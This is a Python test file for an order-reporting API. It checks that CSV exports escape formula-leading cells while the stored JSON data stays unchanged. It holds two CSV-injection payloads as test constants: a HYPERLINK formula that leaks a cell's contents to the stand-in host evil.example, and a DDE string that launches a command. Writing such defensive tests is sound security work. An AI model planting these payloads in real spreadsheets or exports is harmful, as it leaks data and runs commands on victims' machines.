"""Formula cells in a downloaded CSV come back escaped; the stored data stays exact."""

import copy
import csv
import io

from support import BASE_EXPORT_ORDER, headers

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "@SUM(1+9)*cmd|' /C calc'!A0"


def test_report_csv_escapes_formula_cells(client, make_user):
    seller = make_user("seller")
    body = copy.deepcopy(BASE_EXPORT_ORDER)
    body["order_no"] = "-SO-7"
    body["items"][0]["description"] = HYPERLINK
    body["items"][1]["description"] = DDE
    r = client.post("/api/v1/orders", json=body, headers=headers(seller))
    assert r.status_code == 201, r.json
    assert [i["description"] for i in r.json["items"]] == [HYPERLINK, DDE]

    query = {"from": "2026-11-01", "to": "2026-11-30"}
    h = {**headers(seller), "Accept": "text/csv"}
    text = client.get("/api/v1/reports/export-rebates", query_string=query, headers=h).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(x["order_no"], x["description"]) for x in rows] == [
        ("'-SO-7", "'" + HYPERLINK),
        ("'-SO-7", "'" + DDE),
    ]
    assert [x["value"] for x in rows] == ["25.50", "6.00"]

    data = client.get("/api/v1/reports/export-rebates", query_string=query, headers=headers(seller))
    assert [(x["order_no"], x["description"]) for x in data.json["rows"]] == [
        ("-SO-7", HYPERLINK),
        ("-SO-7", DDE),
    ]
